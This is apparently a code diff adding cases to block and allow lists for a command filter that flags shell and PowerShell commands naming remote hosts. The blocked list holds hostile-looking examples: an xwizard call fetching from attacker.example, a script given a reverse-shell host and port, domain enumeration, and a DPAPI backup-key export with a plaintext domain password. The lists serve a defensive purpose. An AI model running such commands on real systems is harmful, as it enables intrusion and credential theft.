@@ -48,6 +48,11 @@ BLOCKED = [
     ("powershell", "esentutl.exe /y \\\\host\\share\\x.vbs /d x.vbs /o"),
     ("powershell", "Get-Date >> \\\\host\\share\\x.txt"),
     ("powershell", "xwizard RunWizard {x} /zhttp://attacker.example/x"),
+    # A script a shell or PowerShell runs gets its words as `./x.sh WORDS` would.
+    ("posix", "bash linper.sh --rhost 10.10.10.10 --rport 4444"),
+    ("posix", "sh exploit.sh 10.0.0.5:4444"),
+    ("posix", "bash -x tools/probe.sh -i 192.168.1.2 -p 4444"),
+    ("powershell", "pwsh -File .\\enum.ps1 -ComputerName dc01.corp.local"),
     # A domain account and its password at a machine with a bare name.
     ("posix", "python2 scan.py 'CORP/svc:Winter2024@TARGET'"),
     ("posix", "dpapi.py backupkeys --export -t corp/admin:passw0rd@dc_01"),
@@ -56,6 +61,10 @@ BLOCKED = [
 
 # The same programs, and the words that look like locators but name nothing remote.
 ALLOWED = [
+    ("posix", "bash scripts/release.sh 1.2.3"),  # a version, not an address
+    ("posix", "sh ./configure --prefix=/usr/local"),
+    ("posix", 'bash -c "echo 10.0.0.1"'),  # the shell's own line is its own command: echo prints text
+    ("powershell", "pwsh -NoProfile -File .\\build.ps1 -Task Test -Configuration Release"),
     # Run-time words whose variables name this machine, a build target, or anything.
     ("posix", "cargo build --target $TARGET"),
     ("posix", 'ssh-keygen -lf key.pub -E "$HOSTNAME"'),
